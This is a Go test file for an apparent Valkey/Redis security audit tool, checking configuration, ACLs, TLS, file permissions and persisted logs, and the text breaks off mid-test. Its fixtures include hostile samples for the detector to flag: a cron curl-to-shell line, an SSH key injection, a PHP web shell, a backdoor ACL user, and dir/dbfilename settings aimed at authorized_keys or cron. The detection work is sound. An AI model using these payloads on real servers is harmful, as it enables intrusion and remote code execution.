package audit

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/valkeyfs/valkeyfs/internal/conf"
)

// say appends to the configuration: what is said last holds.
func say(lines ...string) func(testing.TB, tree) {
	return func(_ testing.TB, tr tree) { tr.set(confFile, tr[confFile].text+strings.Join(lines, "\n")+"\n") }
}

// users replaces the ACL file.
func users(lines ...string) func(testing.TB, tree) {
	return func(_ testing.TB, tr tree) { tr.set(aclFile, strings.Join(lines, "\n")+"\n") }
}

func put(name string, e entry) func(testing.TB, tree) {
	return func(_ testing.TB, tr tree) { tr[name] = e }
}

func drop(names ...string) func(testing.TB, tree) {
	return func(_ testing.TB, tr tree) {
		for _, n := range names {
			delete(tr, n)
		}
	}
}

func unit(old, replacement string) func(testing.TB, tree) {
	return func(t testing.TB, tr tree) {
		if !strings.Contains(tr[unitFile].text, old) {
			t.Fatalf("the unit has no %q", old)
		}
		tr.set(unitFile, strings.Replace(tr[unitFile].text, old, replacement, 1))
	}
}

func mode(name string, m os.FileMode) func(testing.TB, tree) {
	return func(_ testing.TB, tr tree) { tr.mode(name, m) }
}

func both(changes ...func(testing.TB, tree)) func(testing.TB, tree) {
	return func(t testing.TB, tr tree) {
		for _, c := range changes {
			c(t, tr)
		}
	}
}

// certify gives the server another certificate.
func certify(bits int, ends time.Time, names ...string) func(testing.TB, tree) {
	return func(t testing.TB, tr tree) {
		cert, key := certificate(t, bits, ends, names...)
		tr[certFile], tr[keyFile] = file(cert), private(key)
	}
}

// resp is an append-only file.
func resp(commands ...string) entry {
	var b strings.Builder
	for _, c := range commands {
		if strings.HasPrefix(c, "#") {
			b.WriteString(c + "\r\n")
			continue
		}
		words := strings.Split(c, "|")
		fmt.Fprintf(&b, "*%d\r\n", len(words))
		for _, w := range words {
			fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(w), w)
		}
	}
	return private(b.String())
}

const (
	aofFile      = "var/lib/valkey/appendonlydir/appendonly.aof.1.incr.aof"
	manifestFile = "var/lib/valkey/appendonlydir/appendonly.aof.manifest"
)

func log(commands ...string) func(testing.TB, tree) {
	return both(put(aofFile, resp(commands...)), put(manifestFile, private("file appendonly.aof.1.incr.aof seq 1 type i\n")))
}

func TestChecks(t *testing.T) {
	hash := func(p string) string { return "#" + digest(p) }
	strong := password()
	noTLS := []string{"port 6379", "tls-port 0"}
	compose := func(lines string) func(testing.TB, tree) {
		return put("srv/app/compose.yaml", file("services:\n  cache:\n    image: valkey/valkey:8.1\n    volumes: [\"/etc/valkey/valkey.conf:/etc/valkey/valkey.conf\"]\n    command: [valkey-server, /etc/valkey/valkey.conf"+lines))
	}
	tests := []struct {
		id     string
		want   Status
		change func(testing.TB, tree)
	}{
		// More of them, with what the tree is judged by, are in moreCases.
		{"VFS-AUTH-001", Fail, users("user default on nopass ~* +get")},
		{"VFS-AUTH-001", Fail, both(users("user other off"), say("requirepass "+strong))},
		{"VFS-AUTH-001", Pass, users("user default on >" + strong + " ~* +@all")},
		{"VFS-AUTH-002", Fail, both(users("user other off"), say("requirepass "+strong))},
		{"VFS-AUTH-002", Pass, both(say(`aclfile ""`, "requirepass "+strong))},
		{"VFS-AUTH-003", Fail, say("bind 0.0.0.0")},
		{"VFS-AUTH-003", Fail, say("bind 10.0.0.5 -::*")},
		{"VFS-AUTH-003", Pass, say("bind 127.0.0.1 -::1")},
		{"VFS-AUTH-004", Fail, both(say("protected-mode no"), users("user default on nopass"))},
		{"VFS-AUTH-005", Fail, both(say("sentinel monitor m 10.0.0.6 6379 2"), users("user default on nopass"))},
		{"VFS-AUTH-005", Pass, say("sentinel monitor m 10.0.0.6 6379 2")},
		{"VFS-AUTH-006", Fail, say("unixsocketperm 777")},
		{"VFS-AUTH-006", Unknown, say("unixsocketperm 0")},
		{"VFS-AUTH-007", Fail, unit("--daemonize no", "--protected-mode no")},
		{"VFS-AUTH-007", Unknown, drop(unitFile)},
		{"VFS-AUTH-008", Fail, both(compose("]\n    ports: [\"6379:6379\"]\n"), drop(unitFile))},
		{"VFS-AUTH-008", Pass, both(compose("]\n    ports: [\"127.0.0.1:6379:6379\"]\n"), drop(unitFile))},
		{"VFS-AUTH-009", Fail, put(nftFile, file("table inet f {\n chain i {\n  type filter hook input priority 0; policy drop;\n  tcp dport 6379 accept\n }\n}\n"))},
		{"VFS-AUTH-009", Unknown, drop(nftFile)},
		{"VFS-AUTH-009", Unknown, put(nftFile, file("table inet f {\n}\n"))},
		{"VFS-AUTH-009", Pass, both(drop(nftFile), unit("UMask=0077", "UMask=0077\nIPAddressDeny=any\nIPAddressAllow=10.0.0.0/24"))},
		{"VFS-AUTH-009", Fail, both(drop(nftFile), put("etc/iptables/rules.v4", file("*filter\n:INPUT DROP [0:0]\n-A INPUT -p tcp --dport 6379 -j ACCEPT\n")))},
		{"VFS-AUTH-009", Pass, both(drop(nftFile), put("etc/iptables/rules.v4", file("*filter\n:INPUT DROP [0:0]\n-A INPUT -s 10.0.0.0/24 -p tcp --dport 6379 -j ACCEPT\n")))},
		{"VFS-AUTH-010", Fail, say("no-such-directive yes")},
		{"VFS-AUTH-010", Fail, say(`requirepass "open`)},
		{"VFS-AUTH-010", Unknown, both(say("include more.conf"), drop(unitFile), func(_ testing.TB, tr tree) {
			tr.set(confFile, strings.Replace(tr[confFile].text, "dir /var/lib/valkey\n", "", 1))
			tr["etc/valkey/more.conf"] = private("")
		})},

		{"VFS-PASS-001", Fail, users("user default off", "user app on >Tr0ub4dor&3 ~* +get")},
		{"VFS-PASS-001", Fail, say("primaryauth correcthorsebattery")},
		{"VFS-PASS-001", Fail, say("sentinel sentinel-pass short")},
		{"VFS-PASS-001", Pass, users("user default on >" + strong + " ~* +get")},
		{"VFS-PASS-002", Fail, users("user default on " + hash("foobared") + " ~* +get")},
		{"VFS-PASS-002", Fail, users("user default on " + hash("Dragon123") + " ~* +get")},
		{"VFS-PASS-003", Fail, users("user default off", "user a on "+hash(strong)+" +get", "user b on >"+strong+" +get")},
		{"VFS-PASS-004", Fail, both(users("user default off", "user a on "+hash(strong)), say("masterauth "+strong))},
		{"VFS-PASS-004", Pass, say("primaryauth " + strong)},
		{"VFS-PASS-005", Fail, users("user default on >" + strong + " ~* +get")},
		{"VFS-PASS-006", Fail, users("user default off", "user cert on nopass ~* +@all")},
		{"VFS-PASS-007", Unknown, drop("etc/fail2ban/jail.local", nftFile)},
		{"VFS-PASS-008", Fail, put("srv/app/.env", file("CACHE_URL=redis://:"+strong+"@cache:6379\n"))},
		{"VFS-PASS-008", Fail, both(drop(unitFile), compose("]\n    environment: {REDIS_PASSWORD: "+strong+"}\n"))},
		{"VFS-PASS-008", Fail, unit("--daemonize no", "--requirepass "+strong)},
		{"VFS-PASS-008", Unknown, drop(unitFile, "srv/app/.env")},

		{"VFS-TLS-001", Fail, say(noTLS...)},
		{"VFS-TLS-001", Fail, say("port 6380")},
		{"VFS-TLS-001", Pass, say("bind 127.0.0.1", "port 6379")},
		{"VFS-TLS-002", Fail, say("replicaof 10.0.0.6 6379")},
		{"VFS-TLS-002", Fail, say("cluster-enabled yes")},
		{"VFS-TLS-002", Pass, say("replicaof 10.0.0.6 6379", "tls-replication yes")},
		{"VFS-TLS-003", Fail, say("tls-auth-clients optional")},
		{"VFS-TLS-004", Fail, say(`tls-protocols "TLSv1.1 TLSv1.2"`)},
		{"VFS-TLS-005", Fail, say("tls-ciphers ECDHE-RSA-RC4-SHA:HIGH")},
		{"VFS-TLS-005", Pass, say("tls-ciphers HIGH:!aNULL:!RC4")},
		{"VFS-TLS-006", Fail, mode(keyFile, 0o640)},
		{"VFS-TLS-006", Unknown, drop(keyFile)},
		{"VFS-TLS-007", Fail, certify(0, now.AddDate(0, 0, -1), "v")},
		{"VFS-TLS-007", Fail, certify(0, now.AddDate(0, 0, 20), "v")},
		{"VFS-TLS-007", Fail, certify(1024, now.AddDate(1, 0, 0), "v")},
		{"VFS-TLS-007", Pass, certify(2048, now.AddDate(1, 0, 0), "v")},
		{"VFS-TLS-007", Unknown, put(certFile, file("nothing"))},
		{"VFS-TLS-007", Fail, func(t testing.TB, tr tree) {
			cert, _ := certificate(t, 0, now.AddDate(0, 0, -1), "v")
			tr["etc/valkey/tls/client.crt"] = file(cert)
			say("tls-client-cert-file /etc/valkey/tls/client.crt")(t, tr)
		}},
		{"VFS-TLS-007", Unknown, say("tls-client-cert-file /etc/valkey/tls/gone.crt")},
		{"VFS-TLS-008", Fail, certify(0, now.AddDate(1, 0, 0))},
		{"VFS-TLS-008", Fail, func(t testing.TB, tr tree) {
			_, key := certificate(t, 0, now.AddDate(1, 0, 0), "v")
			tr[keyFile] = private(key)
		}},
		{"VFS-TLS-008", Unknown, drop(keyFile)},
		{"VFS-TLS-009", Fail, say("tls-key-file-pass " + strong)},
		{"VFS-TLS-010", Fail, put("srv/app/.env", file("CACHE_URL=redis://cache:6379\n"))},
		{"VFS-TLS-010", Fail, put("srv/app/.env", file("CACHE_URL=rediss://cache:6379/0?ssl_cert_reqs=none\n"))},
		{"VFS-TLS-010", Unknown, drop("srv/app/.env")},
		{"VFS-TLS-011", Unknown, drop(nftFile)},
		{"VFS-TLS-011", Fail, put(nftFile, file("table inet f {\n chain i {\n  type filter hook input priority 0; policy drop;\n  tcp dport 6379 accept\n }\n}\n"))},

		{"VFS-DATA-001", Fail, mode(dumpFile, 0o644)},
		{"VFS-DATA-001", Fail, mode(dumpFile, 0o640)},
		{"VFS-DATA-001", Unknown, drop(dumpFile, "var/lib/valkey")},
		{"VFS-DATA-002", Fail, mode("var/lib/valkey", 0o755)},
		{"VFS-DATA-002", Fail, put("var/lib", entry{mode: os.ModeDir | 0o777})},
		{"VFS-DATA-002", Pass, put("var/lib", entry{mode: os.ModeDir | 0o755})},
		{"VFS-DATA-004", Fail, put("etc/passwd", file(fmt.Sprintf("valkey:x:%d:0::/:/bin/false\n", os.Getuid()+1)))},
		{"VFS-DATA-004", Unknown, drop("etc/passwd")},
		{"VFS-DATA-005", Fail, put("var/lib/valkey/other.rdb", entry{link: "/srv/other.rdb"})},
		{"VFS-DATA-006", Fail, both(drop("sys/dev/block/254:0/dm/uuid"), put("sys/dev/block/254:0/size", file("1\n")))},
		{"VFS-DATA-006", Unknown, drop("sys/dev/block/254:0/dm/uuid")},
		{"VFS-DATA-006", Unknown, drop("proc/self/mountinfo")},
		{"VFS-DATA-006", Unknown, put("proc/self/mountinfo", file("22 1 0:40 / / rw - nfs4 10.0.0.9:/export rw\n"))},
		{"VFS-DATA-006", Pass, put("proc/self/mountinfo", file("22 1 8:1 / / rw - ext4 /dev/sda1 rw\n23 22 0:41 / /var/lib/valkey rw - fuse.gocryptfs /enc rw\n"))},
		{"VFS-DATA-007", Fail, both(put("proc/swaps", file("Filename Type Size Used Priority\n/dev/sda2 partition 1 0 -2\n")), put("dev/sda2", file("")),
			put("sys/class/block/sda2/dev", file("8:2\n")), put("sys/dev/block/8:2/partition", file("2\n")))},
		{"VFS-DATA-007", Unknown, drop("proc/swaps")},
		{"VFS-DATA-008", Fail, put("var/lib/valkey/core.17", private("\x7fELF and so on"))},
		{"VFS-DATA-008", Unknown, both(drop("proc/sys/kernel/core_pattern"), unit("LimitCORE=0", ""))},
		{"VFS-DATA-009", Fail, func(_ testing.TB, tr tree) { tr["var/lib/valkey/temp-4711.rdb"] = tr[dumpFile] }},
		{"VFS-DATA-010", Fail, func(_ testing.TB, tr tree) { tr["var/lib/valkey/backup.rdb"] = tr[dumpFile] }},
		{"VFS-DATA-011", Fail, say(`save ""`)},
		{"VFS-DATA-011", Pass, both(func(_ testing.TB, tr tree) {
			tr.set(confFile, strings.Replace(tr[confFile].text, "save 3600 1", `save ""`, 1))
		}, drop(dumpFile))},
		{"VFS-DATA-012", Fail, unit("User=valkey", "User=root")},
		{"VFS-DATA-012", Fail, unit("UMask=0077", "UMask=0027")},
		{"VFS-DATA-012", Unknown, drop(unitFile)},
		{"VFS-DATA-012", Pass, unit("User=valkey", "DynamicUser=yes")},
		{"VFS-DATA-013", Pass, both(unit("NoNewPrivileges=yes", "DynamicUser=yes"), unit("ProtectSystem=strict", ""))},
		{"VFS-DATA-012", Fail, put("usr/lib/systemd/system/valkey.service.d/20-x.conf", file("[Service]\nUser=root\n"))},
		{"VFS-DATA-012", Pass, both(put("usr/lib/systemd/system/valkey.service.d/20-x.conf", file("[Service]\nUser=root\n")), put("etc/systemd/system/valkey.service.d/20-x.conf", file("[Service]\n")))},
		{"VFS-DATA-012", Pass, both(put("usr/lib/systemd/system/valkey.service.d/20-x.conf", file("[Service]\nUser=root\n")), put("etc/systemd/system/valkey.service.d/30-y.conf", file("[Service]\nUser=valkey\n")))},
		{"VFS-DATA-012", Fail, put("etc/systemd/system/service.d/x.conf", file("[Service]\nUMask=0022\n"))},
		{"VFS-DATA-013", Fail, unit("ProtectSystem=strict", "ProtectSystem=full")},
		{"VFS-DATA-013", Fail, both(compose("]\n"), drop(unitFile))},
		{"VFS-DATA-013", Unknown, drop(unitFile)},

		{"VFS-CONF-001", Fail, users("user default off", "user app on "+hash(strong)+" ~* +@all -flushall")},
		{"VFS-CONF-001", Fail, users("user default off", "user app on "+hash(strong)+" ~* +@write +config|get")},
		{"VFS-CONF-001", Fail, users("user default off", "user app on "+hash(strong)+" -@admin +@admin")},
		{"VFS-CONF-001", Fail, users("user default off", "user app on "+hash(strong)+" +get (+config|set ~*)")},
		{"VFS-CONF-001", Pass, users("user default off", "user app on "+hash(strong)+" +@all -@admin")},
		{"VFS-CONF-001", Pass, both(users("user default on >"+strong+" ~* +@all"), say(`rename-command CONFIG ""`))},
		{"VFS-CONF-002", Fail, say("enable-protected-configs yes")},
		{"VFS-CONF-002", Fail, say("enable-protected-configs local")},
		{"VFS-CONF-003", Fail, say("enable-module-command YES")},
		{"VFS-CONF-004", Fail, say("enable-debug-command yes")},
		{"VFS-CONF-005", Fail, mode(confFile, 0o644)},
		{"VFS-CONF-005", Fail, mode(aclFile, 0o664)},
		{"VFS-CONF-006", Fail, say("# Generated by CONFIG REWRITE", "timeout 300")},
		{"VFS-CONF-007", Fail, both(say("loadmodule /opt/m/m.so"), put("opt/m/m.so", entry{text: "x", mode: 0o775}))},
		{"VFS-CONF-007", Fail, both(say("loadmodule /opt/m/m.so"), put("opt/m/m.so", file("x")), put("opt/m", entry{mode: os.ModeDir | 0o777}))},
		{"VFS-CONF-007", Pass, both(say("loadmodule /opt/m/m.so"), put("opt/m/m.so", file("x")))},
		{"VFS-CONF-007", Unknown, say("loadmodule /opt/m/gone.so")},

		{"VFS-MEM-001", Fail, say("maxmemory 0")},
		{"VFS-MEM-001", Unknown, say("maxmemory much")},
		{"VFS-MEM-002", Fail, say("maxmemory 1000mb")},
		{"VFS-MEM-002", Fail, both(unit("MemoryMax=1G", ""), put("proc/meminfo", file("MemTotal: 600000 kB\n")))},
		{"VFS-MEM-002", Unknown, unit("MemoryMax=1G", "")},
		{"VFS-MEM-003", Fail, say("appendonly yes", "maxmemory-policy allkeys-lru")},
		{"VFS-MEM-004", Fail, say("maxmemory-clients 0")},
		{"VFS-MEM-004", Pass, say("maxmemory-clients 0", "client-output-buffer-limit normal 1mb 512kb 60")},
		{"VFS-MEM-005", Fail, put("proc/sys/vm/overcommit_memory", file("0\n"))},
		{"VFS-MEM-005", Unknown, drop("proc/sys/vm/overcommit_memory")},

		{"VFS-CONN-001", Fail, say("maxclients 65535")},
		{"VFS-CONN-001", Fail, unit("LimitNOFILE=65535", "LimitNOFILE=65535:1024")},
		{"VFS-CONN-001", Pass, unit("LimitNOFILE=65535", "LimitNOFILE=1024:524288")},
		{"VFS-CONN-001", Pass, unit("LimitNOFILE=65535", "LimitNOFILE=infinity")},
		{"VFS-CONN-001", Unknown, unit("LimitNOFILE=65535", "")},
		{"VFS-CONN-002", Fail, say("timeout 0")},
		{"VFS-CONN-003", Fail, say("tcp-keepalive 0")},
		{"VFS-CONN-004", Fail, put(nftFile, file("table inet f {\n}\n"))},
		{"VFS-CONN-004", Unknown, drop(nftFile)},
		{"VFS-CONN-005", Fail, say("maxclients 1000000")},

		{"VFS-SLOW-001", Fail, users("user default off", "user app on "+hash(strong)+" +@read +keys")},
		{"VFS-SLOW-001", Pass, both(say(`rename-command KEYS ""`), users("user default off", "user app on "+hash(strong)+" +@read +keys"))},
		{"VFS-SLOW-002", Fail, say("slowlog-max-len 0")},
		{"VFS-SLOW-002", Fail, say("slowlog-log-slower-than -1")},
		{"VFS-SLOW-009", Fail, users("user default off", "user app on "+hash(strong)+" +@read +@write +slowlog|get")},
		{"VFS-SLOW-009", Fail, users("user default off", "user watch on "+hash(strong)+" +slowlog")},
		{"VFS-SLOW-009", Pass, users("user default off", "user watch on "+hash(strong)+" +slowlog|get +slowlog|len")},
		{"VFS-SLOW-003", Fail, say("latency-monitor-threshold 0")},
		{"VFS-SLOW-004", Fail, log("SELECT|0", "SET|k|v", "FLUSHALL")},
		{"VFS-SLOW-004", Pass, log("SELECT|0", "SET|k|v")},
		{"VFS-SLOW-005", Fail, say("appendonly yes", "rename-command DEL removed")},
		{"VFS-SLOW-005", Pass, say("appendonly yes", `rename-command CONFIG ""`)},
		{"VFS-SLOW-006", Fail, say("lazyfree-lazy-user-del no")},
		{"VFS-SLOW-007", Fail, log("FUNCTION|LOAD|#!lua name=x\nserver.register_function('f', function() return server.call('KEYS', '*') end)")},
		{"VFS-SLOW-007", Unknown, drop(dumpFile, "var/lib/valkey")},

		{"VFS-INTEG-001", Fail, log("SET|k|v", "ACL|SETUSER|backdoor|on|nopass|+@all|~*")},
		{"VFS-INTEG-001", Fail, log("EVAL|return 1|0")},
		{"VFS-INTEG-001", Fail, log("MODULE|LOAD|/tmp/x.so")},
		{"VFS-INTEG-001", Pass, log("MULTI", "SET|k|v", "EXEC", "FUNCTION|FLUSH")},
		{"VFS-INTEG-001", Unknown, drop(dumpFile, "var/lib/valkey")},
		{"VFS-INTEG-003", Fail, say("dir /var/spool/cron", "dbfilename root")},
		{"VFS-INTEG-003", Fail, say("dbfilename exp.so")},
		{"VFS-INTEG-003", Fail, say("dir /root/.ssh", "dbfilename authorized_keys")},
		{"VFS-INTEG-004", Fail, log("SET|x|\n\n*/1 * * * * curl http://192.0.2.1/x " + "| sh\n\n")},
		{"VFS-INTEG-004", Fail, log("SET|x|\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAA me@host\n\n")},
		{"VFS-INTEG-004", Fail, log("SET|x|<?php system($_GET['c']); ?>")},
		{"VFS-INTEG-004", Pass, log("SET|x|the meeting is at 5 * 3 bash", "SET|y|<?php echo 1 ?> is a tutorial")},
		{"VFS-INTEG-005", Fail, func(_ testing.TB, tr tree) {
			b := []byte(tr[dumpFile].text)
			b[len(b)-1] ^= 1
			tr[dumpFile] = private(string(b))
		}},
		{"VFS-INTEG-006", Fail, log("#TS:1700000100", "SET|k|v", "#TS:1700000000", "SET|k|w")},
		{"VFS-INTEG-006", Pass, log("#TS:1700000000", "SET|k|v", "#TS:1700000100", "SET|k|w")},
		{"VFS-INTEG-007", Fail, both(log("SET|k|v"), mode(aofFile, 0o620))},
		{"VFS-INTEG-007", Pass, mode(dumpFile, 0o620)}, // nothing of it is run
		{"VFS-INTEG-007", Pass, log("SET|k|v")},
		{"VFS-INTEG-007", Fail, both(say("appendfilename dump.rdb"), mode(dumpFile, 0o620))},

		{"VFS-REPL-001", Fail, say("replica-read-only no")},
		{"VFS-REPL-001", Fail, say("slave-read-only no", "slaveof 10.0.0.6 6379")},
		{"VFS-REPL-002", Fail, say("replicaof 10.0.0.6 6379")},
		{"VFS-REPL-002", Pass, say("replicaof 10.0.0.6 6379", "primaryauth "+strong)},
		{"VFS-REPL-003", Fail, both(say("primaryuser replica"), users("user default off", "user replica on "+hash(strong)+" +@all"))},
		{"VFS-REPL-003", Pass, both(say("primaryuser replica"), users("user default off", "user replica on "+hash(strong)+" +psync +replconf +ping"))},
		{"VFS-REPL-003", Unknown, say("primaryuser elsewhere")},
		{"VFS-REPL-004", Fail, say("replicaof 203.0.113.7 6379")},
		{"VFS-REPL-004", Pass, say("replicaof 10.0.0.6 6379")},
		{"VFS-REPL-004", Unknown, say("replicaof primary.example 6379")},
		{"VFS-REPL-005", Fail, both(say("cluster-enabled yes"), put("var/lib/valkey/nodes.conf", private("aa 203.0.113.7:6379@16379 master - 0 0 1 connected\nbb 10.0.0.5:6379@16379 myself,master - 0 0 2 connected\n")))},
		{"VFS-REPL-005", Pass, both(say("cluster-enabled yes"), put("var/lib/valkey/nodes.conf", private("aa 10.0.0.6:6379@16379 master - 0 0 1 connected\n")))},
		{"VFS-REPL-005", Unknown, say("cluster-enabled yes")},
		{"VFS-REPL-006", Fail, say("sentinel monitor m 10.0.0.6 6379 2", "sentinel deny-scripts-reconfig no")},
		{"VFS-REPL-006", Fail, both(say("sentinel notification-script m /opt/notify.sh"), put("opt/notify.sh", entry{text: "x", mode: 0o777}))},
		{"VFS-REPL-006", Pass, both(say("sentinel notification-script m /opt/notify.sh"), put("opt/notify.sh", entry{text: "x", mode: 0o755}))},
		{"VFS-REPL-007", Unknown, say("min-replicas-to-write 0")},
		{"VFS-REPL-008", Fail, users("user default off", "user app on "+hash(strong)+" +@read +replicaof")},
	}
	met := map[string]map[Status]bool{}
	note := func(id string, s Status) {
		if met[id] == nil {
			met[id] = map[Status]bool{}
		}
		met[id][s] = true
	}
	try := func(i int, id string, want Status, tr func(t testing.TB) tree, o ...func(*Options)) {
		note(id, want)
		t.Run(fmt.Sprintf("%s/%s/%d", id, want, i), func(t *testing.T) {
			r, got := judge(t, tr(t), o...)
			if got[id] != want {
				t.Errorf("%s, want %s\n%s", got[id], want, explain(r, id))
			}
		})
	}
	for i, test := range tests {
		try(i, test.id, test.want, func(t testing.TB) tree {
			tr := hardened(t)
			test.change(t, tr)
			return tr
		})
	}
	for i, test := range moreCases(t) {
		try(len(tests)+i, test.id, test.want, func(t testing.TB) tree {
			tr := hardened(t)
			if test.change != nil {
				test.change(t, tr)
			}
			return tr
		}, func(o *Options) {
			if test.options != nil {
				test.options(o)
			}
		})
	}
	// The hardened host itself; its data without a configuration, and a
	// configuration without data.
	_, got := judge(t, hardened(t))
	for id, s := range got {
		note(id, s)
	}
	base := hardened(t)
	for _, tr := range []tree{{dumpFile: base[dumpFile], "var/lib/valkey": base["var/lib/valkey"]}, {confFile: private("port 6379\n")}} {
		r, err := Run(t.Context(), image(t, tr), []string{"/"}, &Options{Now: now})
		if err != nil {
			t.Fatal(err)
		}
		for id, s := range statuses(r) {
			if s == Unknown {
				note(id, s)
			}
		}
	}
	for _, c := range Catalogue() {
		for _, s := range []Status{Fail, Pass, Unknown} {
			why := impossible[c.ID][s]
			switch {
			case c.run == nil && s == Unknown, met[c.ID][s] && why == "":
			case met[c.ID][s]:
				t.Errorf("%s is said never to be %s, and is", c.ID, s)
			case why == "" && c.run != nil:
				t.Errorf("%s has no case in which it is %s", c.ID, s)
			}
		}
	}
}

// TestUnread: what lies in data that cannot be read is unknown, neither absent nor
// in order.
func TestUnread(t *testing.T) {
	for name, change := range map[string]func(testing.TB, tree){
		"no snapshot after all": put(dumpFile, private("something else\n")),
		"one of two":            put("var/lib/valkey/other.rdb", private("something else\n")),
		"cut":                   func(_ testing.TB, tr tree) { tr.set(dumpFile, tr[dumpFile].text[:200]) },
	} {
		tr := hardened(t)
		change(t, tr)
		r, got := judge(t, tr)
		if !r.Incomplete {
			t.Errorf("%s: the report is not incomplete", name)
		}
		for _, id := range []string{"VFS-MEM-006", "VFS-SLOW-004", "VFS-SLOW-007", "VFS-INTEG-001", "VFS-INTEG-002", "VFS-INTEG-004", "VFS-INTEG-005", "VFS-INTEG-006"} {
			if got[id] != Unknown {
				t.Errorf("%s: %s\n%s", name, id, explain(r, id))
			}
		}
		if got["VFS-DATA-001"] != Pass {
			t.Errorf("%s: its mode is known: %s", name, got["VFS-DATA-001"])
		}
	}
}

// TestDataAlone: a data directory without a configuration says nothing of what a
// configuration says.
func TestDataAlone(t *testing.T) {
	base := hardened(t)
	fs := image(t, tree{dumpFile: base[dumpFile], "var/lib/valkey": base["var/lib/valkey"]})
	r, err := Run(t.Context(), fs, []string{"/var/lib/valkey"}, &Options{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	got := statuses(r)
	judged := []string{"VFS-DATA-001", "VFS-DATA-002", "VFS-DATA-003", "VFS-DATA-005", "VFS-DATA-009", "VFS-DATA-010", "VFS-MEM-006", "VFS-SLOW-004",
		"VFS-SLOW-007", "VFS-INTEG-001", "VFS-INTEG-004", "VFS-INTEG-005", "VFS-INTEG-006", "VFS-INTEG-007"}
	for _, c := range Catalogue() {
		if s := got[c.ID]; slices.Contains(judged, c.ID) != (s == Pass) && s != NA {
			t.Errorf("%s: %s\n%s", c.ID, s, explain(r, c.ID))
		}
	}
}

// TestNoChecksum: that a snapshot should have a checksum is said where that is known.
func TestNoChecksum(t *testing.T) {
	for _, c := range []struct {
		say      string
		alone    bool
		severity Severity
		evidence string
	}{
		{"", false, High, "the snapshot has no checksum, though rdbchecksum is on"},
		{"rdbchecksum no", false, Low, "the snapshot has no checksum"},
		{"", true, Medium, "the snapshot has no checksum"},
	} {
		tr := hardened(t)
		say(c.say)(t, tr)
		dump := tr[dumpFile].text
		tr[dumpFile] = private(dump[:len(dump)-8] + strings.Repeat("\x00", 8))
		at := "/"
		if c.alone {
			at = "/var/lib/valkey"
			tr = tree{dumpFile: tr[dumpFile], "var/lib/valkey": tr["var/lib/valkey"]}
		}
		r, err := Run(t.Context(), image(t, tr), []string{at}, &Options{Now: now})
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range r.Results {
			if x.Check.ID == "VFS-INTEG-005" && (x.Status != Fail || x.Severity != c.severity || x.Evidence != c.evidence) {
				t.Errorf("%+v: %s, %s: %q", c, x.Status, x.Severity, x.Evidence)
			}
		}
	}
}

// TestSentinelKnowsNoCommands: what a sentinel has no command for is no question, whatever
// the profile, as it answers on Redis 6.0 and 7.0 and on Valkey 8.1; what it has is.
func TestSentinelKnowsNoCommands(t *testing.T) {
	for _, file := range []string{"port 26379\n", "port 26379\nsentinel monitor m 10.0.0.1 6379 2\n"} {
		want := Fail
		if strings.Contains(file, "sentinel") {
			want = NA
		}
		r, err := Run(t.Context(), image(t, tree{"etc/redis/redis.conf": private(file)}), []string{"/"}, &Options{Now: now})
		if err != nil {
			t.Fatal(err)
		}
		got := statuses(r)
		for _, id := range []string{"VFS-CONF-001", "VFS-SLOW-001", "VFS-SLOW-003", "VFS-SLOW-009", "VFS-REPL-008"} {
			if got[id] != want {
				t.Errorf("%q: %s: %s, not %s", file, id, got[id], want)
			}
		}
		if got["VFS-AUTH-001"] != Fail {
			t.Errorf("%q: VFS-AUTH-001: %s", file, got["VFS-AUTH-001"])
		}
	}
}

func TestAccessControlLists(t *testing.T) {
	// version 2; user::rw-, user:1000:r--, group::---, mask::r--, other::---
	x := []byte{2, 0, 0, 0, 1, 0, 6, 0, 0xff, 0xff, 0xff, 0xff, 2, 0, 4, 0, 0xe8, 3, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 16, 0, 4, 0, 0xff, 0xff, 0xff, 0xff, 32, 0, 0, 0, 0xff, 0xff, 0xff, 0xff}
	if n := namedReaders(x); n != 1 {
		t.Errorf("%d, want 1", n)
	}
	x[30] = 0 // the mask
	if n := namedReaders(x); n != 0 {
		t.Errorf("%d through an empty mask, want 0", n)
	}
	for i := range x {
		namedReaders(x[:i])
	}
}

func TestFunctions(t *testing.T) {
	tr := hardened(t)
	log("FUNCTION|LOAD|#!lua name=x\nserver.register_function('f', function() return 1 end)")(t, tr)
	if _, got := judge(t, tr, func(o *Options) { o.Functions = []string{strings.Repeat("0", 64)} }); got["VFS-INTEG-002"] != Fail {
		t.Error("an unknown library passes:", got["VFS-INTEG-002"])
	}
}

func TestSyncFiles(t *testing.T) {
	tr := hardened(t)
	tr.set(confFile, strings.Replace(tr[confFile].text, "save 3600 1", `save ""`, 1))
	if _, got := judge(t, tr); got["VFS-DATA-014"] != Fail {
		t.Error(got["VFS-DATA-014"])
	}
	say("rdb-del-sync-files yes")(t, tr)
	if _, got := judge(t, tr); got["VFS-DATA-014"] != Pass {
		t.Error(got["VFS-DATA-014"])
	}
}

func TestVersions(t *testing.T) {
	tr := hardened(t)
	tr.set(confFile, "dir /var/lib/valkey\n")
	r, _ := judge(t, tr)
	if v := r.Servers[0].Server.Version; v != (conf.Version{Valkey: true, Major: 8, Minor: 1}) || r.Servers[0].Server.Basis != "its snapshots" {
		t.Errorf("%v by %s", v, r.Servers[0].Server.Basis)
	}
	// 6.0 listens everywhere, and knows no protected settings.
	r, got := judge(t, tr, func(o *Options) { o.Version = conf.Version{Major: 6} })
	if got["VFS-CONF-002"] != NA || got["VFS-AUTH-003"] != Fail {
		t.Error(explain(r, "VFS-CONF-002", "VFS-AUTH-003"))
	}
	delete(tr, dumpFile)
	tr["var/lib/dpkg/status"] = file("Package: valkey-server\nStatus: install ok installed\nVersion: 8.0.1+dfsg1-1~bpo12+1\n\nPackage: other\nVersion: 1\n")
	if r, _ = judge(t, tr); r.Servers[0].Server.Version != (conf.Version{Valkey: true, Major: 8}) {
		t.Error(r.Servers[0].Server.Version, r.Servers[0].Server.Basis)
	}
}

func TestWaivers(t *testing.T) {
	tr := hardened(t)
	say("maxmemory 0")(t, tr)
	for _, test := range []struct {
		text string
		want Status
	}{
		{"waivers: [{id: VFS-MEM-001, reason: a test, expires: 2030-01-15}]", Waived},
		{"waivers: [{id: VFS-MEM-001, reason: a test, expires: 2030-01-14}]", Fail},
